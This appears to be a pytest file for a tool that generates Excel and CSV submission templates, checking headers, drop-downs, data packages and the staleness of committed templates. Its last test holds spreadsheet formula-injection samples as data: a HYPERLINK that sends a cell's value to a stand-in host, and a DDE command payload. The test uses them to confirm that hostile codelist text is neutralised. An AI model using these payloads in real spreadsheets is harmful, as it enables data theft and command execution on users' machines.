"""Submission templates: generated from the model, and the committed copy is current."""

from __future__ import annotations

import argparse
import csv
import dataclasses
import json
from pathlib import Path

import frictionless
import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from assets.iati.codelists import Codelists, load_codelists
from assets.settings import Settings, load_settings
from assets.submissions import model, templates
from assets.submissions.templates import (
    REQUIRED_FILL,
    TemplateChoices,
    choices_from,
    templates_main,
    workbook_content,
    write_csv_template,
    write_templates,
    write_xlsx_template,
)
from pipelines.cli import add_templates_arguments
from tests.conftest import PROJECT_ROOT

COMMITTED = PROJECT_ROOT / "templates"
STALE = "templates/ is stale: run `make templates` (cdcompact templates --out templates)"


@pytest.fixture(scope="module")
def settings() -> Settings:
    return load_settings(PROJECT_ROOT / "config" / "compact.yaml")


@pytest.fixture(scope="module")
def codelists(settings: Settings) -> Codelists | None:
    return load_codelists(settings.codelists_dir) if settings.codelists_dir else None


@pytest.fixture(scope="module")
def generated(
    tmp_path_factory: pytest.TempPathFactory, settings: Settings, codelists: Codelists | None
) -> Path:
    out = tmp_path_factory.mktemp("templates")
    write_templates(out, settings, codelists)
    return out


def _validations(sheet: Worksheet) -> dict[str, tuple[str, str | None]]:
    """Column letter -> (validation type, formula) of the sheet's data validations."""
    found: dict[str, tuple[str, str | None]] = {}
    for validation in sheet.data_validations.dataValidation:
        for cell_range in validation.sqref.ranges:
            letter = str(cell_range).split(":")[0].rstrip("0123456789")
            found[letter] = (validation.type, validation.formula1)
    return found


def _list_values(workbook: object, formula: str) -> list[str]:
    """The codes a drop-down offers: inline ``"a,b"`` or a range on the lists sheet."""
    if formula.startswith('"'):
        return formula.strip('"').split(",")
    sheet_name, ref = formula.split("!")
    sheet = workbook[sheet_name.strip("'")]  # type: ignore[index]
    return [row[0].value for row in sheet[ref.replace("$", "")] if row[0].value is not None]


def _letter(sheet_spec: model.Sheet, name: str) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter([c.name for c in sheet_spec.columns].index(name) + 1)


@pytest.mark.parametrize("kind", model.submission_types(), ids=lambda k: k.name)
def test_workbook_shows_the_model(generated: Path, settings: Settings, kind: model.SubmissionType):
    workbook = load_workbook(generated / f"{kind.name}.xlsx")
    assert workbook.sheetnames == ["README", *(s.name for s in kind.sheets), "lists"]
    assert workbook["lists"].sheet_state == "hidden"
    assert workbook.properties.creator == "cdcompact"
    readme = "\n".join(str(c.value) for c in workbook["README"]["A"] if c.value)
    assert "cdcompact check FILE" in readme
    assert "schema version" in readme
    for spec in kind.sheets:
        assert spec.description in readme
        sheet = workbook[spec.name]
        assert sheet.freeze_panes == "A2"
        header = [cell.value for cell in sheet[1]]
        assert header == [c.name for c in spec.columns]
        for cell, column in zip(sheet[1], spec.columns, strict=True):
            assert cell.font.bold
            assert cell.comment is not None, f"{spec.name}.{column.name} has no comment"
            assert cell.comment.author == "cdcompact"
            assert column.description in cell.comment.text
            assert ("(required)" in cell.comment.text) == column.required
            is_required_fill = cell.fill.fgColor.rgb == REQUIRED_FILL.fgColor.rgb
            assert is_required_fill == column.required
            assert sheet.column_dimensions[cell.column_letter].width >= 14
        validations = _validations(sheet)
        for column in spec.columns:
            letter = _letter(spec, column.name)
            if column.type == "boolean":
                assert _list_values(workbook, validations[letter][1] or "") == ["yes", "no"]
            if column.enum:
                assert _list_values(workbook, validations[letter][1] or "") == list(column.enum)
            if column.codelist == "Country":
                offered = _list_values(workbook, validations[letter][1] or "")
                assert set(settings.countries) <= set(offered)
            if column.type == "date":
                assert sheet.column_dimensions[letter].number_format == "yyyy-mm-dd"


def test_specific_drop_downs(generated: Path):
    partner = load_workbook(generated / "partner_submission.xlsx")
    activities = model.partner_submission().sheet("activities")
    validations = _validations(partner["activities"])
    modality = _list_values(partner, validations[_letter(activities, "modality")][1] or "")
    assert "technical_assistance" in modality
    country = validations[_letter(activities, "country_code")][1] or ""
    assert country.startswith("'lists'!"), "long lists live on the hidden lists sheet"
    assert "GH" in _list_values(partner, country)
    currency = _list_values(partner, validations[_letter(activities, "currency")][1] or "")
    assert "USD" in currency
    report = load_workbook(generated / "country_report.xlsx")
    results = model.country_report().sheet("results")
    level = _validations(report["results"])[_letter(results, "level")][1] or ""
    assert _list_values(report, level) == list(
        model.country_report().sheet("results").column("level").enum
    )
    assert "intermediate_outcome" in _list_values(report, level)
    priorities = model.country_report().sheet("cd_priorities")
    sector = _validations(report["cd_priorities"])[_letter(priorities, "sector_code")][1] or ""
    assert "15111" in _list_values(report, sector)
    # A metadata sheet has one row: its drop-downs cover row 2 only.
    metadata = report["metadata"].data_validations.dataValidation
    assert [str(v.sqref) for v in metadata] == ["A2"]


def test_long_inline_lists_move_to_the_lists_sheet(tmp_path: Path):
    many = [(f"C{i:03d}", f"Code {i}") for i in range(200)]
    choices = TemplateChoices(countries=many, sectors=many, currencies=[("USD", "US Dollar")])
    long_enum = tuple(f"option_number_{i}" for i in range(40))
    kind = model.country_report()
    results = kind.sheet("results")
    changed_columns = tuple(
        dataclasses.replace(c, enum=long_enum) if c.name == "level" else c for c in results.columns
    )
    changed = dataclasses.replace(
        kind,
        sheets=tuple(
            dataclasses.replace(s, columns=changed_columns) if s.name == "results" else s
            for s in kind.sheets
        ),
    )
    path = tmp_path / "t.xlsx"
    write_xlsx_template(changed, path, choices)
    workbook = load_workbook(path)
    formula = _validations(workbook["results"])[_letter(results, "level")][1] or ""
    assert formula.startswith("'lists'!")
    assert _list_values(workbook, formula) == list(long_enum)
    country = _validations(workbook["metadata"])["A"][1] or ""
    assert len(_list_values(workbook, country)) == 200


def test_choices(settings: Settings, codelists: Codelists | None):
    choices = choices_from(settings, codelists)
    assert [code for code, _ in choices.countries] == list(settings.countries)
    assert dict(choices.countries)["GH"] == "Ghana"
    assert all(len(code) == 5 and code.isdigit() for code, _ in choices.sectors)
    bare = choices_from(settings, None)
    assert [name for _, name in bare.countries] == [""] * len(settings.countries)
    assert {code for code, _ in bare.sectors} == set(settings.cd_rules.cd_sectors)
    assert {"USD", "EUR", "GBP", "XDR"} <= {code for code, _ in bare.currencies}


@pytest.mark.parametrize("kind", model.submission_types(), ids=lambda k: k.name)
def test_csv_folder(tmp_path: Path, kind: model.SubmissionType):
    folder = tmp_path / kind.name
    write_csv_template(kind, folder)
    for spec in kind.sheets:
        raw = (folder / f"{spec.name}.csv").read_bytes()
        assert raw.endswith(b"\r\n")
        rows = list(csv.reader(raw.decode("utf-8").splitlines()))
        assert rows == [[c.name for c in spec.columns]]
    descriptor = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    assert [r["path"] for r in descriptor["resources"]] == [f"{s.name}.csv" for s in kind.sheets]
    for resource, spec in zip(descriptor["resources"], kind.sheets, strict=True):
        fields = resource["schema"]["fields"]
        assert [f["name"] for f in fields] == [c.name for c in spec.columns]
        for field, column in zip(fields, spec.columns, strict=True):
            assert field["type"] == column.type
            assert field["description"] == column.description
            constraints = field.get("constraints", {})
            assert constraints.get("required", False) == column.required
            assert constraints.get("enum", []) == list(column.enum)
    report = frictionless.validate(folder / "datapackage.json")
    assert report.valid, report.flatten(["type", "note"])


def test_filled_csv_accepts_yes_no(tmp_path: Path):
    kind = model.partner_submission()
    folder = tmp_path / "p"
    write_csv_template(kind, folder)
    spec = kind.sheet("declarations")
    row = ["A-1"] + ["yes" if c.type == "boolean" else "" for c in spec.columns[1:]]
    with (folder / "declarations.csv").open("a", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerow(row)
    report = frictionless.validate(folder / "datapackage.json")
    assert report.valid, report.flatten(["type", "note"])


def _tree(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file())


def _assert_same(committed: Path, fresh: Path) -> None:
    assert committed.is_dir(), STALE
    assert _tree(committed) == _tree(fresh), STALE
    for name in _tree(fresh):
        if name.endswith(".xlsx"):
            assert workbook_content(committed / name) == workbook_content(fresh / name), (
                f"{name}: {STALE}"
            )
        else:
            assert (committed / name).read_text(encoding="utf-8") == (fresh / name).read_text(
                encoding="utf-8"
            ), f"{name}: {STALE}"


def test_committed_templates_are_current(generated: Path):
    _assert_same(COMMITTED, generated)
    assert "must not be edited by hand" in (COMMITTED / "README.md").read_text(encoding="utf-8")


def test_regenerating_gives_the_same_content(
    tmp_path: Path, generated: Path, settings: Settings, codelists: Codelists | None
):
    write_templates(tmp_path, settings, codelists)
    _assert_same(generated, tmp_path)


def test_a_changed_description_changes_the_templates(
    tmp_path: Path,
    generated: Path,
    settings: Settings,
    codelists: Codelists | None,
    monkeypatch: pytest.MonkeyPatch,
):
    partner = model.partner_submission()
    activities = partner.sheet("activities")
    columns = tuple(
        dataclasses.replace(c, description="A brand new description.") if c.name == "title" else c
        for c in activities.columns
    )
    changed = dataclasses.replace(
        partner,
        sheets=tuple(
            dataclasses.replace(s, columns=columns) if s.name == "activities" else s
            for s in partner.sheets
        ),
    )
    monkeypatch.setattr(model, "submission_types", lambda: (model.country_report(), changed))
    write_templates(tmp_path, settings, codelists)
    with pytest.raises(AssertionError, match="make templates"):
        _assert_same(generated, tmp_path)
    workbook = load_workbook(tmp_path / "partner_submission.xlsx")
    comment = workbook["activities"][f"{_letter(activities, 'title')}1"].comment
    assert comment is not None
    assert "A brand new description." in comment.text
    package = json.loads((tmp_path / "partner_submission" / "datapackage.json").read_text())
    assert "A brand new description." in json.dumps(package)


def test_refuses_to_write_outside_out(tmp_path: Path):
    with pytest.raises(ValueError, match="outside"):
        templates._inside(tmp_path / "out", tmp_path / "out" / ".." / "elsewhere.xlsx")


def test_templates_main(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
    out = tmp_path / "t"
    assert templates_main(argparse.Namespace(out=out, config=None)) == 0
    printed = capsys.readouterr().out
    assert str(out / "country_report.xlsx") in printed
    assert (out / "partner_submission" / "datapackage.json").is_file()
    parser = argparse.ArgumentParser()
    add_templates_arguments(parser)
    assert parser.parse_args(["--out", "x"]).out == Path("x")
    blocker = tmp_path / "file"
    blocker.write_text("x")
    assert templates_main(argparse.Namespace(out=blocker, config=None)) == 2
    missing = tmp_path / "missing.yaml"
    assert templates_main(argparse.Namespace(out=out, config=missing)) == 2


def test_codelist_text_is_never_a_formula(tmp_path: Path):
    """Codes and names come from codelist files: a hostile name stays text in the workbook."""
    hostile = [
        ("AA", '=HYPERLINK("http://evil.invalid/?x="&A1,"Click")'),
        ("BB", "+SUM(1,2)"),
        ("=1+1", "@cmd|' /C calc'!A0"),
        ('C"C', "-2+3"),
    ]
    choices = TemplateChoices(countries=hostile, sectors=hostile, currencies=hostile)
    path = tmp_path / "t.xlsx"
    write_xlsx_template(model.partner_submission(), path, choices)
    workbook = load_workbook(path)
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    lists = workbook["lists"]
    values = {cell.value for row in lists.iter_rows() for cell in row}
    assert {code for code, _ in hostile} <= values
    assert {name for _, name in hostile} <= values
    # Every inline drop-down is one well-formed quoted list.
    for sheet in workbook.worksheets:
        for validation in sheet.data_validations.dataValidation:
            formula = validation.formula1 or ""
            if formula.startswith('"'):
                assert formula.count('"') == 2, formula
